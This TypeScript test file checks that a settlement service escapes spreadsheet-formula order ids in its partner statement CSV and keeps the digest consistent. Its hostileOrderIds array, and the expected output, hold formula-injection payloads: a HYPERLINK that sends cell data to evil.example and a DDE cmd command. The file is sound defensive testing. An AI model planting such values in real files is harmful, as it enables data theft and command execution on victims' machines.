import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Ledger } from '../../ledger/index.ts';
import { manualClock, newId } from '../../platform/index.ts';
import { getStatement, runSettlement } from '../../settlement/index.ts';
import { createTestHub, type TestHub } from '../support/hub.ts';
import { accrueFor, farFuture, ledgerFor } from '../support/ledger.ts';
import { csvOf, redeemAt, sha256 } from '../support/settlement.ts';

/** Order ids a partner's till may send, each meant to run as a formula in a spreadsheet. */
const hostileOrderIds = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];
const plainOrderIds = ['ORD-1', 'ORD,2'];

const clock = manualClock(new Date('2026-04-01T01:00:00Z'));
const acceptor = newId();
const issuer = newId();
let hub: TestHub;
let ledger: Ledger;
let periodId: string;

beforeAll(async () => {
  hub = await createTestHub({ clock });
  ledger = ledgerFor(hub, clock);
  const member = newId();
  await accrueFor(ledger, issuer, member, 10_000, farFuture);
  for (const orderId of [...hostileOrderIds, ...plainOrderIds]) {
    clock.advanceMs(1000);
    await redeemAt(ledger, acceptor, member, 10, orderId);
  }
  // The local day 2026-04-01 (Asia/Shanghai) ends at 16:00 UTC; two minutes of grace.
  clock.set(new Date('2026-04-01T16:02:00Z'));
  await runSettlement(hub.services.db, clock);
  const period = await hub.services.db
    .selectFrom('settlement_periods')
    .select('id')
    .where('status', '=', 'computed')
    .executeTakeFirstOrThrow();
  periodId = period.id;
});
afterAll(async () => {
  await ledger.close();
  await hub.close();
});

/** The cells of CSV text, by RFC 4180: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /("(?:[^"]|"")*"|[^,\n]*)(,|\n|$)/gy;
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text);
    if (!match) throw new Error(`not CSV at ${cell.lastIndex}`);
    row.push(match[1] ?? '');
    if (match[2] !== ',') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describe('statement CSV', () => {
  it('escapes order ids that a spreadsheet would run, and keeps the digest over those bytes', async () => {
    const csv = await csvOf(hub.services.db, periodId, acceptor);
    const statement = await getStatement(hub.services.db, { periodId, partnerId: acceptor });
    expect(sha256(csv)).toBe(statement.digest);

    const [header, ...lines] = parseCsv(csv);
    const orderColumn = header?.indexOf('order_id') ?? -1;
    const cells = lines.map((cells) => cells[orderColumn] ?? '');
    expect(cells).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`,
      `"'+1+cmd|"" /C calc""!A0"`,
      `"'-2+3"`,
      `"'@SUM(A1:A9)"`,
      `"'\t=1+1"`,
      `"'\r=1+1"`,
      'ORD-1',
      '"ORD,2"',
    ]);
    // JSON carries the partner's ids as they were sent.
    expect(statement.lines.map((l) => l.orderId)).toEqual([...hostileOrderIds, ...plainOrderIds]);
  });
});
